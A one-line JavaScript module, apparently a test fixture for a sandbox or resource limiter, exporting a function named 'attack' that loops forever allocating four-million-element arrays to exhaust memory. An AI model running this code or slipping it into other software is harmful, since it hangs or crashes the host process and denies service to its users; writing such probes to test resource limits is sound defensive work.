exports.attack = () => { for (;;) new Array(4_000_000).fill(0.5); };
